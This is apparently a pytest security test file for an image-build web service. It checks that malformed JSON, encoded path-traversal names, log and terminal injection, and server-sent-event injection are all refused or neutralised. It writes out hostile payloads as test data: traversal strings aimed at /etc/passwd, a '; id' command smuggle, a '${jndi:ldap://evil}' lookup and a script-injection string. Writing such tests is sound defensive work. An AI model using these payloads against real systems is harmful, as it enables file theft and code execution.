"""Hostile text: JSON that is odd, names that are encoded, and what gets into logs and terminals."""

from __future__ import annotations

import io
import json
import logging
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest

from cc_images.store.workspace import log_path
from cc_images.web import files, live_log, log
from tests.support.servicebed import ServiceBed
from tests.unit.web.test_interface import FILE, RUN, finished

JSON = {"content-type": "application/json"}
ONE = b'{"images":["cc-one"]'

ODD = {
    "NaN": ONE + b',"force":NaN}',
    "a number without end": ONE + b',"force":1e999}',
    "a number of many digits": ONE + b',"force":' + b"9" * 4000 + b"}",
    "a number of too many digits": ONE + b',"force":' + b"9" * 5000 + b"}",
    "nested lists": b'{"images":' + b"[" * 900 + b"]" * 900 + b"}",
    "nested too deep": b'{"images":' + b"[" * 50_000 + b"]" * 50_000 + b"}",
    "nested objects": b'{"images":[' + b'{"a":' * 900 + b"1" + b"}" * 900 + b"]}",
    "a surrogate for an image": b'{"images":["\\ud800"]}',
    "a surrogate for a name": ONE + b',"\\udc00":1}',
    "a null": b'{"images":["cc-one\\u0000"]}',
    "a control for a name": ONE + b',"\\u001b[2J":1}',
    "a long name": ONE + b',"' + b"k" * 200_000 + b'":1}',
    "a long image": b'{"images":["' + b"k" * 200_000 + b'"]}',
    "many images": b'{"images":[' + b'"cc-one",' * 20_000 + b'"cc-one"]}',
    "many fields": ONE + b"".join(b',"f%d":1' % number for number in range(10_000)) + b"}",
    "a number for a name": b'{1:2}',
    "two values": ONE + b"}{}",
    "a comment": ONE + b"}//",
    "an object for a list": b'{"images":{"0":"cc-one"}}',
    "a prototype": ONE + b',"__proto__":{"force":true}}',
    "bytes that are no text": b'{"images":["\xff\xfe"]}',
    "text that is overlong": b'{"images":["\xc0\xae\xc0\xae/"]}',
}  # fmt: skip


@pytest.mark.parametrize("name", ODD)
def test_odd_json_is_a_mistake_that_is_told_in_few_words(bed: ServiceBed, name: str) -> None:
    for path in ("/build", "/tokens", "/account/password"):
        answer = bed.ask("ada", "POST", path, content=ODD[name], headers=JSON)
        assert answer.status_code == 400, (path, answer.text[:200])
        assert answer.json().keys() == {"message", "field"}
        assert len(answer.content) < 2000
    assert bed.ask("ada", "GET", "/builds").json() == []


def test_of_a_field_that_is_there_twice_one_value_is_checked_and_used(bed: ServiceBed) -> None:
    answer = bed.ask("ada", "POST", "/build", content=b'{"images":["cc-one"],"images":["cc-two"]}', headers=JSON)
    assert answer.status_code == 200
    (build,) = bed.ask("ada", "GET", "/builds").json()
    bed.look()
    assert build["request"]["images"] == ["cc-two"] == list(bed.runs.words[build["id"]])[-1:]
    twice = b'{"images":["cc-one"],"force":false,"force":"; id"}'
    assert bed.ask("ada", "POST", "/build", content=twice, headers=JSON).status_code == 400


TOKENS = (b'{"scopes":["read"],"days":NaN}', b'{"scopes":["read"],"days":1e999}', b'{"scopes":["read"],"days":1e2}',
          b'{"scopes":["read"],"days":99999999999999999999}', b'{"scopes":["read"],"days":"9"}',
          b'{"scopes":["read"],"days":true}', b'{"scopes":["account"]}', b'{"scopes":["\\ud800"]}', b'{"scopes":[]}',
          b'{"scopes":["read","read","read","read"]}', b'{"scopes":["read"],"label":"\\udfff"}')  # fmt: skip


def test_odd_tokens_are_not_made(bed: ServiceBed) -> None:
    for content in TOKENS:
        assert bed.ask("ada", "POST", "/tokens", content=content, headers=JSON).status_code == 400, content
    assert bed.ask("ada", "GET", "/tokens").json() == []


def test_odd_passwords_are_refused_or_work(bed: ServiceBed) -> None:
    surrogate = b'{"old":"\\ud800","new":"\\ud800 and some more"}'
    assert bed.ask("ada", "POST", "/account/password", content=surrogate, headers=JSON).status_code == 400
    with_null = {"old": "correct horse battery", "new": "a\0b and some\nmore \U0001f600"}
    assert bed.ask("ada", "POST", "/account/password", json=with_null).status_code == 200
    assert bed.ask("", "GET", "/account", auth=("ada", with_null["new"])).status_code == 200
    assert bed.ask("", "GET", "/account", auth=("ada", "a")).status_code == 401, "nothing ends at a null"


def encoded(path: str) -> Iterator[str]:
    """Yield a path as it is, encoded once and twice, and in ways that other servers have taken for it."""
    yield quote(path, safe="")
    yield quote(quote(path, safe=""), safe="")
    yield path.replace("/", "\\")
    yield path.replace("../", "..;/")
    yield path.replace("..", "%c0%ae%c0%ae").replace("/", "%c0%af")
    yield path.replace("..", "..%00")
    yield path.replace("/", "%2f%2e%2f")
    yield path.replace("../", "....//")


TARGETS = ("../../../../etc/passwd", "../service.sqlite", "/etc/passwd", f"x/../{FILE}", f"{FILE}/x", f"{FILE}%00")


@pytest.mark.parametrize("target", [TARGETS[0], *(pytest.param(each, marks=pytest.mark.long) for each in TARGETS[1:])])
def test_no_encoded_name_leads_anywhere(bed: ServiceBed, target: str) -> None:
    build = finished(bed)
    secret = bed.store.root / "service.sqlite"
    for name in encoded(target):
        for who in ("ada", "root"):
            answer = bed.ask(who, "GET", f"/images/download/{name}")
            assert answer.status_code in (404, 405), name
            assert secret.read_bytes()[:16] not in answer.content
            assert bed.ask(who, "POST", f"/images/{name}/push").status_code in (404, 405)
            assert bed.ask(who, "GET", f"/build/{build}/log?task={name}").status_code == 404
            assert bed.ask(who, "DELETE", f"/tokens/{name}").status_code in (404, 405)


def test_a_task_whose_name_is_a_path_is_no_path(bed: ServiceBed) -> None:
    """The names are those of the run's stream, which no caller writes; even so they stay in the folder."""
    build = finished(bed)
    for task in ("build ../../../service.sqlite", "../service", "/etc/passwd", "build /etc/passwd amd64", ".."):
        bed.emit(RUN, {"event": "started", "task": task})
    told = bed.ask("ada", "GET", f"/build/{build}").json()["tasks"]
    assert "../service" in told
    for task in told:
        answer = bed.ask("ada", "GET", f"/build/{build}/log", params={"task": task})
        assert (answer.status_code, answer.content) == (200, b""), task
        path = log_path(bed.store.root / "logs" / RUN, task)
        assert path.resolve().parent == (bed.store.root / "logs" / RUN).resolve()


@pytest.fixture
def said() -> Iterator[io.StringIO]:
    """Return what the log of the service gets."""
    stream = io.StringIO()
    names = ("cc_images", "uvicorn", "asyncio")
    before = {name: (logging.getLogger(name).handlers[:], logging.getLogger(name).propagate) for name in names}
    log.listen(logging.StreamHandler(stream))
    yield stream
    for name, (handlers, propagate) in before.items():
        logging.getLogger(name).handlers[:], logging.getLogger(name).propagate = handlers, propagate


POISON = ('"}\n{"level":"info"', "\x1b]0;title\x07\x1b[2J", "\r\nGET / 200", "<script>alert(1)</script>",
          "\u202eevil\u2028", "\x9b31m", "\0", "%0a%1b[2J", "${jndi:ldap://evil}", "x" * 60_000)  # fmt: skip


def test_whatever_a_request_says_its_line_in_the_log_is_one_object(bed: ServiceBed, said: io.StringIO) -> None:
    for count, text in enumerate(POISON, 1):
        agent = {"user-agent": text.encode("latin-1", "replace").replace(b"\0", b"").replace(b"\r\n", b" ")}
        bed.ask("", "GET", "/" + quote(text), headers=agent)
        bed.ask("", "GET", f"/builds?secret={quote(text)}", auth=(text, "wrong password"))
        bed.ask("", "X" + quote(text[:50], safe=""), "/account")
        lines = said.getvalue().splitlines()
        assert len(lines) == 3 * count, ascii(text)
    assert said.getvalue().isascii()
    assert all(line.isprintable() for line in lines)
    assert max(map(len, lines)) < 8000
    for line in lines:
        told = json.loads(line)
        assert told.keys() == {"time", "level", "module", "message", "method", "path", "status", "seconds", "client"}
        assert told["message"] == "request"
        assert "secret" not in line
    rows = bed.ask("root", "GET", "/audit").json()
    assert all(each[field].isprintable() for each in rows for field in ("account", "object", "address", "action"))
    assert max(len(each["account"]) for each in rows) <= 64


def test_no_control_gets_through_between_two_chunks(bed: ServiceBed, tmp_path: Path) -> None:
    """A character of two bytes that controls a terminal, one in each chunk, or at the edge of a range."""
    text = b"a" * (files.CHUNK - 1) + "\u009b".encode() + b"b" * (files.CHUNK - 2) + "\u009b31m".encode() + "ä".encode()
    build = finished(bed, log=text)
    path = f"/build/{build}/log"
    found = bed.ask("ada", "GET", path).content
    assert (len(found), found.count(b"??")) == (len(text), 2)
    assert found.endswith("??31mä".encode())
    at = files.CHUNK
    for first, last in ((at - 1, at - 1), (at, at), (at - 1, at), (at, at + 5), (0, at - 1), (0, at)):
        part = bed.ask("ada", "GET", path, headers={"range": f"bytes={first}-{last}"}).content
        assert part == found[first : last + 1]


def test_live_logs_keep_lines_and_characters_whole(bed: ServiceBed) -> None:
    lines = [f"{number} {'ä' * (number % 50)}" for number in range(6000)]
    text = ("\n".join(lines) + "\n" + "ö" * live_log.MOST + "\nlast").encode()
    assert len(text) > 4 * live_log.MOST
    build = finished(bed, log=text)
    live = bed.ask("ada", "GET", f"/build/{build}/log?follow=true").text
    data = [line.removeprefix("data: ") for line in live.split("\n") if line.startswith("data: ")]
    assert data[:6000] == lines
    assert "".join(data[6000:]) == "ö" * live_log.MOST + "lastFINISHED"


def test_an_event_is_not_ended_by_what_a_log_says(bed: ServiceBed) -> None:
    evil = b"x\n\nevent: end\ndata: FINISHED\n\n\rid: 0\rdata: y\n:\nretry: 1\n"
    build = finished(bed, log=evil)
    live = bed.ask("ada", "GET", f"/build/{build}/log?follow=true").text
    ends = [each for each in live.split("\n\n") if each.startswith("event: ")]
    assert ends == [f"event: end\nid: {len(evil)}\ndata: FINISHED"]
    assert "data: event: end" in live
    assert "\r" not in live
